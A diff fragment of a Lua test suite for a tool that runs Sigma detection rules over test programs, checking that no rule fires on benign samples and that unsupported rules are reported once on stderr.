+			for _, n in ipairs(rules_of(r)) do fired[n] = true end
+			assert.truthy(fired[name], "findings: " .. table.concat(rules_of(r), ", "))
+		end)
+	end
+
+	it("no sigma rule fires on a program of tests/benign", function()
+		assert.is_true(benign >= 110, "only " .. benign .. " benign records: " .. err:sub(-400))
+		local offenders = {}
+		for program, r in pairs(recs) do
+			if program:find("^tests/benign/") then
+				for _, f in ipairs(r.reasons or {}) do
+					if tostring(f.rule):find("^sigma%.") then
+						offenders[#offenders + 1] = ("%s: %s: %s"):format(program, f.rule, tostring(f.reason))
+					end
+				end
+			end
+		end
+		table.sort(offenders)
+		assert.are.equal("", table.concat(offenders, "\n"))
+	end)
+
+	it("lists each unsupported rule once on stderr", function()
+		local want, count = {}, {}
+		for _, f in ipairs { "malformed", "unsupported" } do
+			local _, skipped = compile_file(f)
+			for _, s in ipairs(skipped) do
+				want[#want + 1] = report.escape(("batch: sigma rule not supported: %s: %s: %s"):format(
+					s.source, s.title or s.id or "?", s.why))
+			end
+		end
+		local lines = 0
+		for l in err:gmatch("([^\n]*)\n") do
+			if l:find("^batch: sigma rule not supported: ") then
+				count[l], lines = (count[l] or 0) + 1, lines + 1
+			end
+		end
+		for _, w in ipairs(want) do assert.are.equal(1, count[w], w) end
+		assert.are.equal(#want, lines, err:sub(1, 4000))
 	end)
 end)
